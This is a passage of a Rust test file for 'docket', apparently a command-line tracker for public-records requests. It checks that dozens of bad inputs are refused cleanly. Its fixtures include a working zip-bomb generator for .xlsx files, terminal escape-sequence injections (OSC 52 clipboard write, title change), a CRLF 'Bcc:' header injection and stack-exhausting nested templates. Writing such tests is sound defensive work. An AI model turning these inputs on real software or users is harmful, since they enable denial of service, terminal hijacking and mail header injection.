    assert_eq!(normalised_schema(&stepped), normalised_schema(&direct));
    assert!(!normalised_schema(&direct).is_empty());

    // And from the first released schema (the fixture's own SQL) the later migrations lead to
    // the same place.
    let old = Connection::open_in_memory().unwrap();
    old.execute_batch(SCHEMA_V1).unwrap();
    for sql in &MIGRATIONS[1..] {
        old.execute_batch(sql).unwrap();
    }
    assert_eq!(normalised_schema(&old), normalised_schema(&direct));
}

// ---------------------------------------------------------------------------------------------
// Hostile and mistaken input

/// A bad input, what it must end with, and the words of its message that say what to do.
struct Bad {
    what: &'static str,
    args: Vec<String>,
    /// 1 for a runtime error, 2 for a usage error, 0 for input that is not an error but must
    /// write nothing (a header-only CSV, a file that is no email).
    code: i32,
    says: &'static str,
    /// Other files the run must leave byte for byte as they were.
    untouched: Vec<PathBuf>,
}

fn bad(what: &'static str, args: &[&str], code: i32, says: &'static str) -> Bad {
    Bad {
        what,
        args: args.iter().map(|a| a.to_string()).collect(),
        code,
        says,
        untouched: Vec::new(),
    }
}

/// A deflate stream (fixed Huffman codes) that inflates to `prefix`, `pattern`, then
/// `258 * copies` more bytes repeating `pattern` (one 13-bit back-reference per 258 bytes),
/// then `suffix`. `pattern` is 1 to 8 bytes long. Returns the stream and the inflated size.
fn deflate_repeating(prefix: &[u8], pattern: &[u8], copies: u64, suffix: &[u8]) -> (Vec<u8>, u64) {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        fn put(&mut self, value: u64, len: u32) {
            self.acc |= value << self.n;
            self.n += len;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        /// Huffman codes are sent most significant bit first.
        fn code(&mut self, code: u64, len: u32) {
            let rev = (0..len).fold(0, |r, i| r | (((code >> i) & 1) << (len - 1 - i)));
            self.put(rev, len);
        }
        fn literal(&mut self, b: u8) {
            match b {
                0..=143 => self.code(0x30 + u64::from(b), 8),
                _ => self.code(0x190 + u64::from(b - 144), 9),
            }
        }
    }
    assert!((1..=8).contains(&pattern.len()));
    let mut bits = Bits {
        out: Vec::new(),
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // the last block
    bits.put(1, 2); // fixed Huffman codes
    for &b in prefix.iter().chain(pattern) {
        bits.literal(b);
    }
    // Distance codes for 1..=8: 0, 1, 2, 3, 4 (+1 bit), 4, 5 (+1 bit), 5.
    let d = pattern.len() as u64;
    let (dcode, extra, extra_bits) = match d {
        1..=4 => (d - 1, 0, 0),
        5 | 6 => (4, d - 5, 1),
        _ => (5, d - 7, 1),
    };
    for _ in 0..copies {
        bits.code(0xC5, 8); // length 258: symbol 285
        bits.code(dcode, 5);
        bits.put(extra, extra_bits);
    }
    for &b in suffix {
        bits.literal(b);
    }
    bits.code(0, 7); // end of block
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    let size = (prefix.len() + pattern.len() + suffix.len()) as u64 + 258 * copies;
    (bits.out, size)
}

/// A zip archive of `(name, method, data, declared uncompressed size)` entries; the CRCs are
/// left 0, since docket must refuse these archives before it inflates anything.
fn zip(entries: &[(&str, u16, Vec<u8>, u64)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    let le16 = |v: &mut Vec<u8>, x: u16| v.extend_from_slice(&x.to_le_bytes());
    let le32 = |v: &mut Vec<u8>, x: u32| v.extend_from_slice(&x.to_le_bytes());
    for (name, method, data, size) in entries {
        let offset = out.len() as u32;
        le32(&mut out, 0x0403_4b50);
        le16(&mut out, 20);
        le16(&mut out, 0);
        le16(&mut out, *method);
        le16(&mut out, 0);
        le16(&mut out, 0x21);
        le32(&mut out, 0);
        le32(&mut out, data.len() as u32);
        le32(&mut out, *size as u32);
        le16(&mut out, name.len() as u16);
        le16(&mut out, 0);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(data);
        le32(&mut central, 0x0201_4b50);
        le16(&mut central, 20);
        le16(&mut central, 20);
        le16(&mut central, 0);
        le16(&mut central, *method);
        le16(&mut central, 0);
        le16(&mut central, 0x21);
        le32(&mut central, 0);
        le32(&mut central, data.len() as u32);
        le32(&mut central, *size as u32);
        le16(&mut central, name.len() as u16);
        le16(&mut central, 0);
        le16(&mut central, 0);
        le16(&mut central, 0);
        le16(&mut central, 0);
        le32(&mut central, 0);
        le32(&mut central, offset);
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    le32(&mut out, 0x0605_4b50);
    le16(&mut out, 0);
    le16(&mut out, 0);
    le16(&mut out, entries.len() as u16);
    le16(&mut out, entries.len() as u16);
    le32(&mut out, central.len() as u32);
    le32(&mut out, cd_offset);
    le16(&mut out, 0);
    out
}

/// An .xlsx workbook whose one sheet inflates to 210 MB of `<row/>`: `honest` declares that
/// size in the zip's table of contents, otherwise the table says 2 KB (a lie a reader must not
/// believe past the declared size).
fn xlsx_bomb(honest: bool) -> Vec<u8> {
    let stored = |name: &'static str, text: &str| {
        let data = text.as_bytes().to_vec();
        let n = data.len() as u64;
        (name, 0u16, data, n)
    };
    let (sheet, size) = deflate_repeating(
        b"<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>",
        b"<row/>",
        210_000_000 / 258,
        b"</sheetData></worksheet>",
    );
    let declared = if honest { size } else { 2048 };
    zip(&[
        stored(
            "[Content_Types].xml",
            "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>",
        ),
        stored(
            "_rels/.rels",
            "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
        ),
        stored(
            "xl/workbook.xml",
            "<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>",
        ),
        stored(
            "xl/_rels/workbook.xml.rels",
            "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
        ),
        ("xl/worksheets/sheet1.xml", 8, sheet, declared),
    ])
}

/// A database with agencies in a state with an appeal (NJ), one without (NC) and one without
/// e-mail (NM), filed requests, a denial, a void, a batch and a draft; and the hostile files.
fn hostile_env() -> (Env, PathBuf) {
    let env = Env::new();
    env.ok(&["config", "set", "name", "Ana Reyes"]);
    env.ok(&["config", "set", "email", "ana@ledger.example"]);
    let nj = env.agency("Bergen County Sheriff's Office", "NJ");
    env.ok(&["agency", "edit", &nj, "--email", "opra@bergen.example"]);
    let nc = env.agency("Wake County Sheriff's Office", "NC");
    let nm = env.agency("Dona Ana County Sheriff's Office", "NM");
    for (slug, id) in [(&nj, "1"), (&nc, "2"), (&nm, "3")] {
        assert_eq!(env.draft(slug), id);
        env.ok(&["file", id, "--on", "2026-11-02"]);
    }
    env.ok(&["log", "2", "deny", "--on", "2026-11-10"]);
    env.ok(&["log", "1", "note", "--note", "a mistake"]);
    env.ok(&["log", "1", "void", "--event", "5"]);
    env.ok(&[
        "draft",
        "--agency",
        &nj,
        "--set",
        "records=x",
        "--batch",
        "spring",
    ]);

    let f = env.path().join("files");
    std::fs::create_dir(&f).unwrap();
    let w = |name: &str, data: &[u8]| std::fs::write(f.join(name), data).unwrap();
    w(
        "bad-utf8.csv",
        b"name,state\nWake \xff\xfe County Sheriff,NC\n",
    );
    w("header-only.csv", b"name,state,county\n");
    w(
        "quotes.csv",
        b"name,state\n\"Wake County Sheriff,NC\nDurham County Sheriff,NC\n",
    );
    w("empty.csv", b"");
    w(
        "valid.csv",
        b"name,state\nDurham County Sheriff's Office,NC\n",
    );
    w("not-a-zip.xlsx", b"this is a text file named .xlsx\n");
    w(
        "old.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old compound file",
    );
    w("bomb.xlsx", &xlsx_bomb(true));
    w("bomb-lying.xlsx", &xlsx_bomb(false));
    w(
        "nul-header.eml",
        b"From: a@b.example\r\nSubject: x\0y\r\n\r\nbody\r\n",
    );
    w("picture.eml", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    std::fs::create_dir(f.join("no-mail")).unwrap();
    std::fs::create_dir(f.join("a-folder")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(f.join("gone"), f.join("gone.eml")).unwrap();
    w(
        "notes.txt",
        &b"these are my notes, not a database\n".repeat(100),
    );
    w("taken.sqlite3", b"an earlier backup");
    {
        let other = Connection::open(f.join("other.sqlite3")).unwrap();
        other
            .execute_batch("CREATE TABLE t (x); INSERT INTO t VALUES (1);")
            .unwrap();
    }
    {
        // Another program's file that also numbers its schema (user_version 1).
        let other = Connection::open(f.join("other-v1.sqlite3")).unwrap();
        other
            .execute_batch("CREATE TABLE notes (x); PRAGMA user_version = 1;")
            .unwrap();
    }
    let db = env.bytes();
    w("truncated.sqlite3", &db[..4096.min(db.len())]);

    let t = |dir: &str, files: &[(&str, &[u8])]| {
        std::fs::create_dir(f.join(dir)).unwrap();
        for (name, text) in files {
            std::fs::write(f.join(dir).join(name), text).unwrap();
        }
    };
    t("tpl-self", &[("_letterhead.hbs", b"{{> _letterhead}}\n")]);
    t(
        "tpl-loop",
        &[
            ("_dear.hbs", b"a {{> _signature}}\n"),
            ("_signature.hbs", b"b {{> _dear}}\n"),
        ],
    );
    t(
        "tpl-dynamic",
        &[("initial.hbs", b"{{> (lookup this \"part\")}}\n")],
    );
    t(
        "tpl-unparsable",
        &[("initial.hbs", b"{{#if records}}never closed\n")],
    );
    t(
        "tpl-variable",
        &[("initial.hbs", b"Dear {{custodian_name}},\n")],
    );
    t("tpl-utf8", &[("initial.hbs", b"Dear \xff,\n")]);
    let deep_if = format!("{}x{}", "{{#if a}}".repeat(5000), "{{/if}}".repeat(5000));
    let deep_sub = format!(
        "{{{{lookup {}this{} \"x\"}}}}",
        "(lookup ".repeat(5000),
        ")".repeat(5000)
    );
    t("tpl-deep-blocks", &[("initial.hbs", deep_if.as_bytes())]);
    t(
        "tpl-deep-subexpressions",
        &[("initial.hbs", deep_sub.as_bytes())],
    );
    t(
        "tpl-hang",
        &[(
            "initial.hbs",
            b"{{#wrap hang=999999999999}}Dear {{records}}{{/wrap}}\n",
        )],
    );
    (env, f)
}

/// At least forty bad inputs across the commands: each ends with the expected exit code and one
/// line that names the problem and the way out (no panic, no backtrace), and leaves the
/// database byte for byte as it was.
#[test]
fn bad_input_is_refused_with_one_line_and_changes_nothing() {
    let (env, f) = hostile_env();
    let fp = |name: &str| f.join(name).to_str().unwrap().to_string();
    let long = "a".repeat(10_000);
    let longer = "a".repeat(10_001);
    let tpl = |dir: &str| fp(dir);
    let cases: Vec<Bad> = vec![
        // Dates: impossible, malformed, in the future, before the filing.
        bad(
            "month 13",
            &["log", "1", "note", "--on", "2026-13-01"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "30 February",
            &["file", "4", "--on", "2026-02-30"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "29 February of a common year",
            &["--today", "2026-02-29", "list"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "31 April",
            &["log", "1", "extend", "--until", "2026-04-31"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "one-digit month",
            &["stats", "--since", "2026-1-5"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "month 0",
            &["holiday", "add", "--state", "NC", "2026-00-10", "X"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "American date",
            &["file", "4", "--on", "11/20/2026"],
            2,
            "use YYYY-MM-DD",
        ),
        bad(
            "future event",
            &["log", "1", "note", "--on", "2027-01-01"],
            1,
            "give the day it happened with --on",
        ),
        bad(
            "event before filing",
            &["log", "1", "note", "--on", "2026-10-01"],
            1,
            "give a date on or after the filing",
        ),
        // Text too long, empty or on two lines.
        bad(
            "10,000-character title",
            &[
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
                "--title",
                &long,
            ],
            1,
            "keep it under 300",
        ),
        bad(
            "title on two lines",
            &[
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
                "--title",
                "two\nlines",
            ],
            1,
            "one line",
        ),
        bad(
            "10,000-character agency name",
            &["agency", "add", "--name", &long, "--state", "NC"],
            1,
            "at most 200 characters",
        ),
        bad(
            "blank agency name",
            &["agency", "add", "--name", "   ", "--state", "NC"],
            1,
            "give --name",
        ),
        bad(
            "10,001-character note",
            &["log", "1", "note", "--note", &longer],
            1,
            "attach long texts with --file",
        ),
        // Amounts.
        bad(
            "negative amount",
            &["log", "1", "fee", "--amount", "-5"],
            1,
            "positive number of dollars",
        ),
        bad(
            "a tenth of a cent",
            &["log", "1", "fee", "--amount", "1.234"],
            1,
            "use dollars and cents",
        ),
        bad(
            "absurd amount",
            &["log", "1", "fee", "--amount", "99999999999999"],
            1,
            "use dollars and cents",
        ),
        bad(
            "fee without amount",
            &["log", "1", "fee"],
            1,
            "add --amount USD",
        ),
        bad(
            "amount on a note",
            &["log", "1", "note", "--amount", "5"],
            1,
            "leave it out",
        ),
        // Names that name nothing.
        bad(
            "unknown state",
            &["agency", "add", "--name", "X Sheriff", "--state", "ZZ"],
            1,
            "use a USPS code",
        ),
        bad(
            "unknown status",
            &["list", "--status", "sleeping"],
            1,
            "use one of draft, filed",
        ),
        bad(
            "unknown event kind",
            &["log", "1", "snooze"],
            1,
            "use one of filed, ack",
        ),
        bad(
            "unknown template",
            &["draft", "--agency", "bergen-so-nj", "--template", "nosuch"],
            1,
            "use one of 287g-agreement",
        ),
        bad(
            "unknown agency",
            &["draft", "--agency", "nosuch-nc", "--set", "records=x"],
            1,
            "`docket agency list` shows the slugs",
        ),
        bad(
            "unknown agency kind",
            &[
                "draft",
                "--state",
                "NC",
                "--kind",
                "jailhouse",
                "--set",
                "records=x",
            ],
            1,
            "use one of sheriff",
        ),
        bad(
            "unknown import source",
            &["agency", "import", &fp("valid.csv"), "--source", "excel"],
            1,
            "use one of ice-287g",
        ),
        bad(
            "unknown profile key",
            &["config", "set", "shoe", "42"],
            2,
            "[possible values: name, organization",
        ),
        bad(
            "unknown clock effect",
            &["law", "set", "NC", "--clarify", "sometimes"],
            1,
            "use toll, restart or none",
        ),
        bad(
            "unknown state for a holiday",
            &["holiday", "add", "--state", "ZZ", "2026-12-01", "X"],
            1,
            "use a USPS code",
        ),
        // Ids: missing, taken, twice.
        bad(
            "no such request",
            &["log", "9999", "note"],
            1,
            "`docket list` shows the requests",
        ),
        bad(
            "no such event",
            &["log", "1", "void", "--event", "99999"],
            1,
            "`docket show 1` lists its events",
        ),
        bad(
            "void twice",
            &["log", "1", "void", "--event", "5"],
            1,
            "voided already",
        ),
        bad(
            "duplicate agency",
            &[
                "agency",
                "add",
                "--name",
                "Wake County Sheriff's Office",
                "--state",
                "NC",
            ],
            1,
            "docket agency edit wake-so-nc",
        ),
        bad(
            "duplicate slug",
            &[
                "agency",
                "add",
                "--name",
                "Other",
                "--state",
                "NC",
                "--slug",
                "wake-so-nc",
            ],
            1,
            "choose another with --slug",
        ),
        bad(
            "a batch of other letters (a named batch grows only with its own template)",
            &[
                "draft",
                "--agency",
                "bergen-so-nj",
                "--template",
                "287g-costs",
                "--batch",
                "spring",
            ],
            1,
            "choose another --batch name",
        ),
        bad("filed twice", &["file", "1"], 1, "void its filed event"),
        bad(
            "no such message",
            &["ingest", "--assign", "99", "1"],
            1,
            "lists unmatched messages",
        ),
        bad(
            "discard a filed request",
            &["discard", "1"],
            1,
            "log `withdraw` instead",
        ),
        // Transitions and letters the law does not allow.
        bad(
            "acknowledging a draft",
            &["log", "4", "ack"],
            1,
            "file it first",
        ),
        bad(
            "appeal letter where there is no appeal",
            &["letter", "2", "--kind", "appeal"],
            1,
            "the options are civil action",
        ),
        bad(
            "--eml to an agency without e-mail",
            &["letter", "3", "--eml"],
            1,
            "docket agency edit dona-ana-so-nm --email",
        ),
        // Templates that recurse, loop, do not parse, or need what is not there.
        bad(
            "partial including itself",
            &[
                "--templates",
                &tpl("tpl-self"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "remove the loop of partials",
        ),
        bad(
            "partials including each other",
            &[
                "--templates",
                &tpl("tpl-loop"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "remove the loop of partials",
        ),
        bad(
            "partial named at run time",
            &[
                "--templates",
                &tpl("tpl-dynamic"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
                "--set",
                "part=initial",
            ],
            1,
            "write the partial's name",
        ),
        bad(
            "template that does not parse",
            &[
                "--templates",
                &tpl("tpl-unparsable"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "fix it or remove the file",
        ),
        bad(
            "template variable missing",
            &[
                "--templates",
                &tpl("tpl-variable"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "--set custodian_name=",
        ),
        bad(
            "built-in template variable missing",
            &[
                "draft",
                "--agency",
                "bergen-so-nj",
                "--template",
                "287g-detainers",
            ],
            1,
            "--set since=",
        ),
        bad(
            "template that is not UTF-8",
            &[
                "--templates",
                &tpl("tpl-utf8"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "save it as UTF-8",
        ),
        bad(
            "templates folder missing",
            &["--templates", &tpl("nowhere"), "template", "list"],
            1,
            "docket template export",
        ),
        // Files that are not what they claim.
        bad(
            "CSV not UTF-8",
            &["agency", "import", &fp("bad-utf8.csv")],
            1,
            "save it as UTF-8",
        ),
        bad(
            "CSV quote never closed",
            &["agency", "import", &fp("quotes.csv")],
            1,
            "fix the quoting",
        ),
        bad(
            "empty CSV",
            &["agency", "import", &fp("empty.csv")],
            1,
            "nothing to import",
        ),
        bad(
            "xlsx that is no zip",
            &["agency", "import", &fp("not-a-zip.xlsx")],
            1,
            "save it from the spreadsheet as .xlsx or CSV",
        ),
        bad(
            "xlsx zip bomb",
            &["agency", "import", &fp("bomb.xlsx")],
            1,
            "export the sheet as CSV",
        ),
        bad(
            "xlsx zip bomb lying about its size",
            &["agency", "import", &fp("bomb-lying.xlsx")],
            1,
            "export the sheet as CSV",
        ),
        bad(
            "old .xls",
            &["agency", "import", &fp("old.xls")],
            1,
            "save it as .xlsx or CSV",
        ),
        bad(
            "--map to no column",
            &["agency", "import", &fp("valid.csv"), "--map", "name=Agency"],
            1,
            "its columns are",
        ),
        bad(
            "import of a missing file",
            &["agency", "import", &fp("none.csv")],
            1,
            "check the path",
        ),
        bad(
            "unreadable .eml",
            &["ingest", &fp("gone.eml")],
            1,
            "check the path",
        ),
        bad(
            "folder with no mail",
            &["ingest", &fp("no-mail")],
            1,
            "give a .eml file",
        ),
        bad(
            "attach a missing file",
            &["attach", "1", &fp("none.pdf")],
            1,
            "check the path",
        ),
        bad(
            "attach a folder",
            &["attach", "1", &fp("a-folder")],
            1,
            "attach the files inside it",
        ),
        bad(
            "export into a missing folder",
            &["export", "--format", "csv", "--out", &fp("no/such/x.csv")],
            1,
            "create it first",
        ),
        bad(
            "letter --out a folder",
            &["letter", "1", "--out", &fp("a-folder")],
            1,
            "give a file name",
        ),
        Bad {
            untouched: vec![f.join("taken.sqlite3")],
            ..bad(
                "backup over a file",
                &["backup", &fp("taken.sqlite3")],
                1,
                "give a new file name",
            )
        },
        // User templates that would overflow the stack or ask for a terabyte of spaces.
        bad(
            "5,000 nested #if blocks in a template",
            &["--templates", &tpl("tpl-deep-blocks"), "template", "list"],
            1,
            "nested more than 64 deep",
        ),
        bad(
            "5,000 nested subexpressions in a template",
            &[
                "--templates",
                &tpl("tpl-deep-subexpressions"),
                "letter",
                "1",
                "--fresh",
            ],
            1,
            "nested more than 64 deep",
        ),
        bad(
            "a hanging indent of 999,999,999,999 columns",
            &[
                "--templates",
                &tpl("tpl-hang"),
                "draft",
                "--agency",
                "bergen-so-nj",
                "--set",
                "records=x",
            ],
            1,
            "wrap takes width=20..200 and hang=0..40",
        ),
        // --out never names docket's own files, never replaces a file unasked.
        bad(
            "export over the database",
            &[
                "export",
                "--format",
                "json",
                "--out",
                env.db().to_str().unwrap(),
            ],
            1,
            "is docket's database: an export never replaces it",
        ),
        bad(
            "export over the database, forced",
            &[
                "export",
                "--format",
                "json",
                "--force",
                "--out",
                env.db().to_str().unwrap(),
            ],
            1,
            "an export never replaces it",
        ),
        bad(
            "export as the database's WAL",
            &[
                "export",
                "--format",
                "csv",
                "--out",
                &format!("{}-wal", env.db().display()),
            ],
            1,
            "a companion file of docket's database",
        ),
        bad(
            "export into the documents folder",
            &[
                "export",
                "--format",
                "csv",
                "--out",
                env.path().join("docket.documents/x.csv").to_str().unwrap(),
            ],
            1,
            "inside docket's documents folder",
        ),
        Bad {
            untouched: vec![f.join("notes.txt")],
            ..bad(
                "export over an existing file",
                &["export", "--format", "csv", "--out", &fp("notes.txt")],
                1,
                "exists: add --force to replace it",
            )
        },
        Bad {
            untouched: vec![f.join("notes.txt")],
            ..bad(
                "letter over an existing file",
                &["letter", "1", "--out", &fp("notes.txt")],
                1,
                "exists: add --force to replace it",
            )
        },
        // Amounts: one decimal format.
        bad(
            "a comma for cents",
            &["log", "1", "fee", "--amount", "45,50"],
            1,
            "use a dot for cents",
        ),
        bad(
            "thousands grouped wrong",
            &["log", "1", "fee", "--amount", "1,0450.00"],
            1,
            "use a dot for cents",
        ),
        // Day counts a law could mean, dates a request could have.
        bad(
            "an extension of 100,000,000 days",
            &["log", "1", "extend", "--days", "100000000"],
            2,
            "is not in 0..=365",
        ),
        bad(
            "an extension of 2^32 - 1 days",
            &["log", "1", "extend", "--days", "4294967295"],
            2,
            "is not in 0..=365",
        ),
        bad(
            "a law of four billion days",
            &["law", "set", "NJ", "--days", "4000000000"],
            2,
            "is not in 0..=365",
        ),
        bad(
            "an appeal window of 100,000 days",
            &["law", "set", "NJ", "--appeal-days", "100000"],
            2,
            "is not in 0..=365",
        ),
        bad(
            "due within a million days",
            &["list", "--due-within", "1000000"],
            2,
            "is not in 0..=3650",
        ),
        bad(
            "the last day of year 9999",
            &["log", "1", "note", "--on", "9999-12-31"],
            2,
            "not a plausible date",
        ),
        bad(
            "year zero",
            &["--today", "0000-01-01", "list"],
            2,
            "not a plausible date",
        ),
        // Control characters typed into fields that reach terminals and letters.
        bad(
            "ESC in an e-mail address",
            &[
                "agency",
                "add",
                "--name",
                "Union County Sheriff's Office",
                "--state",
                "NJ",
                "--email",
                "a@b.example\x1b]0;pwned\x07",
            ],
            1,
            "--email holds a control character (U+001B)",
        ),
        bad(
            "CR/LF in a county",
            &[
                "agency",
                "edit",
                "bergen-so-nj",
                "--county",
                "Bergen\r\nBcc: x@y",
            ],
            1,
            "--county holds a control character",
        ),
        bad(
            "a clear-screen in notes",
            &[
                "agency",
                "edit",
                "bergen-so-nj",
                "--notes",
                "call \x1b[2J first",
            ],
            1,
            "--notes holds a control character",
        ),
        bad(
            "OSC 52 in an address",
            &[
                "agency",
                "edit",
                "bergen-so-nj",
                "--address",
                "1 Main St\x1b]52;c;ZXZpbA==\x07",
            ],
            1,
            "--address holds a control character",
        ),
        bad(
            "ESC in an officer's name",
            &[
                "agency",
                "edit",
                "bergen-so-nj",
                "--officer",
                "J. Doe\x1b[8m",
            ],
            1,
            "--officer holds a control character",
        ),
        bad(
            "ESC in a note",
            &["log", "1", "note", "--note", "read \x1b]0;x\x07"],
            1,
            "--note holds a control character",
        ),
        // --db at what is no docket database.
        bad(
            "--db a directory",
            &["--db", &fp("a-folder"), "list"],
            1,
            "give --db the path of a database file",
        ),
        Bad {
            untouched: vec![f.join("notes.txt")],
            ..bad(
                "--db a text file",
                &["--db", &fp("notes.txt"), "list"],
                1,
                "point --db (or DOCKET_DB) at a docket file",
            )
        },
        Bad {
            untouched: vec![f.join("other.sqlite3")],
            ..bad(
                "--db another program's SQLite file",
                &["--db", &fp("other.sqlite3"), "list"],
                1,
                "point --db (or DOCKET_DB) at a docket file",
            )
        },
        Bad {
            untouched: vec![f.join("other-v1.sqlite3")],
            ..bad(
                "--db another program's SQLite file with a schema version",
                &["--db", &fp("other-v1.sqlite3"), "list"],
                1,
                "point --db (or DOCKET_DB) at a docket file",
            )
        },
        Bad {
            untouched: vec![f.join("truncated.sqlite3")],
            ..bad(
                "--db a truncated docket file",
                &["--db", &fp("truncated.sqlite3"), "list"],
                1,
                "restore it from a backup",
            )
        },
        // Not errors, but nothing to write.
        bad(
            "CSV with a header only",
            &["agency", "import", &fp("header-only.csv")],
            0,
            "0 rows read",
        ),
        bad(
            ".eml with binary in its header",
            &["ingest", &fp("nul-header.eml")],
            1,
            "1 unreadable",
        ),
        bad(
            "a picture named .eml",
            &["ingest", &fp("picture.eml")],
            1,
            "1 unreadable",
        ),
        bad(
            "dry-run import",
            &["agency", "import", &fp("valid.csv"), "--dry-run"],
            0,
            "nothing was written",
        ),
    ];
    assert!(cases.iter().filter(|c| c.code != 0).count() >= 40);
    // docs/HOSTILE-INPUT.md counts the cases: keep it in step.
    let doc = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/HOSTILE-INPUT.md"),
    )
    .unwrap();
    assert!(
        doc.contains(&format!("The table holds {} inputs", cases.len())),
        "docs/HOSTILE-INPUT.md does not say the table holds {} inputs",
        cases.len()
    );
    let mut failures = Vec::new();
    for case in &cases {
        let before = env.bytes();
        let others: Vec<Vec<u8>> = case
            .untouched
            .iter()
            .map(|p| std::fs::read(p).unwrap())
            .collect();
        let r = to_run(
            env.cmd()
                .env("RUST_BACKTRACE", "1")
                .args(&case.args)
                .output()
                .unwrap(),
        );
        let mut wrong = Vec::new();
        if r.code != case.code {
            wrong.push(format!("exit {} (wanted {})", r.code, case.code));
        }
        let message = if case.code == 0 { &r.stdout } else { &r.stderr };
        if case.code != 0 {
            let lines: Vec<&str> = r.stderr.trim_end().lines().collect();
            if lines.len() != 1 || !lines[0].starts_with("error: ") {
                wrong.push("not one `error: ` line".to_string());
            }
        }
        if !message.contains(case.says) {
            wrong.push(format!("does not say {:?}", case.says));
        }
        if r.stderr.contains("panicked") || r.stderr.contains("backtrace") {
            wrong.push("panicked".to_string());
        }
        if env.bytes() != before {
            wrong.push("changed the database".to_string());
        }
        if !sidecars(&env.db()).is_empty() {
            wrong.push(format!("left {:?}", sidecars(&env.db())));
        }
        for (p, bytes) in case.untouched.iter().zip(&others) {
            if std::fs::read(p).unwrap() != *bytes {
                wrong.push(format!("changed {}", p.display()));
            }
            if !sidecars(p).is_empty() {
                wrong.push(format!("left {:?}", sidecars(p)));
            }
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "{}: {}\n    stdout: {}\n    stderr: {}",
                case.what,
                wrong.join(", "),
                r.stdout.trim_end().chars().take(300).collect::<String>(),
                r.stderr.trim_end().chars().take(300).collect::<String>()
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} bad inputs were not handled well:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// Input that is odd but not wrong is kept, readable, and never reaches the database raw: a
/// reply whose headers and body are not UTF-8, a CSV whose names hold NUL and form-feed bytes.
#[test]
fn odd_but_valid_input_is_kept_clean() {
    let (env, ids) = env_with_requests(1);
    // Written as text, sent as Latin-1 bytes without a charset, as an old mail client would.
    let raw = latin1_bytes(&format!(
        "From: Records <records@bergen.example>\r\nTo: ana@ledger.example\r\n\
         Subject: Re: Petici\u{f3}n [docket #{}] a\u{f1}o\r\nDate: Mon, 16 Nov 2026 10:00:00 -0500\r\n\
         Message-ID: <latin1@bergen.example>\r\n\r\nSe\u{f1}or: los registros est\u{e1}n listos.\r\n",
        ids[0]
    ));
    let mail = env.path().join("latin1.eml");
    std::fs::write(&mail, &raw).unwrap();
    let out = env.ok(&["ingest", mail.to_str().unwrap()]);
    assert!(out.contains("1 filed"), "{out}");
    let shown = env.run(&["show", &ids[0], "--format", "json"]).json();
    assert!(
        shown
            .to_string()
            .contains("reply from records@bergen.example"),
        "{shown}"
    );

    let csv = env.path().join("controls.csv");
    std::fs::write(&csv, b"name,state\nWake\0County\x0cSheriff's Office,NC\n").unwrap();
    env.ok(&["agency", "import", csv.to_str().unwrap()]);
    let names: Vec<String> = ro(&env.db())
        .prepare("SELECT name FROM agencies")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert!(
        names.iter().all(|n| !n.chars().any(char::is_control)),
        "{names:?}"
    );
    assert!(
        names.contains(&"Wake County Sheriff's Office".to_string()),
        "{names:?}"
    );
    assert_eq!(integrity(&ro(&env.db())), "ok");
}

/// The Latin-1 bytes of `text` (every character is below U+0100).
fn latin1_bytes(text: &str) -> Vec<u8> {
    text.chars()
        .map(|c| u8::try_from(u32::from(c)).expect("a Latin-1 character"))
        .collect()
}

/// Standard base64 with line breaks every 76 characters, as mail carries attachments.
